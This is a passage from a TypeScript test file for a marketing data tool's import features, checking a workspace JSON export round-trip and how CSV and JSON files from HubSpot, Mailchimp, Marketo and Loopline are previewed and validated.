      options('loopline-json', { chunkBytes: 1000 }),
    );
    const imported = (await snapshot(source)) as Awaited<ReturnType<typeof snapshot>>;
    const only = <T extends { workspace: string }>(rows: T[]) =>
      rows.filter((r) => r.workspace === 'imported');
    expect(result).toMatchObject({
      ok: true,
      leads: only(imported.leads).length,
      touchpoints: only(imported.touchpoints).length,
      campaigns: only(imported.campaigns).length,
      skipped: 3,
      errorCount: 0,
    });
    const copy = await snapshot(target);
    expect(copy.leads).toEqual(only(imported.leads));
    expect(copy.touchpoints).toEqual(only(imported.touchpoints));
    expect(copy.campaigns).toEqual(only(imported.campaigns));
    // Exporting the copy gives the same records.
    const again = await exportWorkspaceJson(target, { now: new Date('2026-03-05T12:00:00Z') });
    const records = (text: string) =>
      text
        .split('\n')
        .filter((line) => line.startsWith('{"workspace":"imported"'))
        .map((line) => JSON.parse(line.replace(/,$/, '')) as { email?: string; id?: string })
        .sort((a, b) => `${a.email ?? ''}${a.id ?? ''}`.localeCompare(`${b.email ?? ''}${b.id ?? ''}`));
    expect(records(again)).toEqual(records(json));
    expect(records(json)).toHaveLength(copy.leads.length + copy.touchpoints.length + copy.campaigns.length);
  });
});

describe('previewImport', () => {
  it.each([
    ['hubspot-contacts.csv', 'hubspot-contacts', 12],
    ['hubspot-email-activity.csv', 'hubspot-email', 20],
    ['mailchimp-activity.csv', 'mailchimp-email', 15],
    ['marketo-activity-log.csv', 'marketo-activity', 19],
    ['loopline.csv', 'loopline-csv', 17],
    ['bad-rows.csv', 'loopline-csv', 14],
  ] as const)(
    '%s: headers, five sample rows, the preset, the exact row count',
    async (file, preset, rows) => {
      const preview = await previewImport(fixture(file));
      const firstLine = fixtureText(file).split('\n')[0]!;
      expect(preview.format).toBe('csv');
      expect(preview.headers.join(',')).toBe(firstLine.replace(/"/g, ''));
      expect(preview.sampleRows).toHaveLength(5);
      expect(preview.preset).toBe(preset);
      expect(preview.rowCountEstimate).toBe(rows);
      expect(preview.problem).toBeUndefined();
    },
  );

  it('shows the sample values under their headers', async () => {
    const preview = await previewImport(fixture('hubspot-contacts.csv'));
    expect(preview.sampleRows[1]).toMatchObject({
      Email: 'james.oconnor@brightside.io',
      'Company Name': 'Brightside, Inc.',
    });
  });

  it('previews the Loopline JSON format', async () => {
    const preview = await previewImport(fixture('loopline-workspace.json'));
    expect(preview).toMatchObject({ format: 'json', preset: 'loopline-json', rowCountEstimate: 13 });
    expect(preview.sampleRows).toHaveLength(5);
    expect(preview.sampleRows[0]).toMatchObject({
      record: 'lead',
      email: 'dana.whitfield@harbor-freight.example',
    });
    expect(preview.headers).toContain('email');
  });

  it('estimates the row count of a large file from its start', async () => {
    const text = syntheticCsv(20_000, 3);
    const preview = await previewImport(new Blob([text]));
    expect(preview.preset).toBe('loopline-csv');
    expect(preview.rowCountEstimate).toBeGreaterThan(17_000);
    expect(preview.rowCountEstimate).toBeLessThan(23_000);
  });

  it.each([
    ['', 'the file is empty'],
    ['name,phone\nAna,123\n', 'the columns do not match any preset'],
    ['{"format":"other"}', 'not a Loopline workspace file'],
  ])('says what is wrong with %j', async (text, problem) => {
    expect((await previewImport(new Blob([text]))).problem).toBe(problem);
  });
});
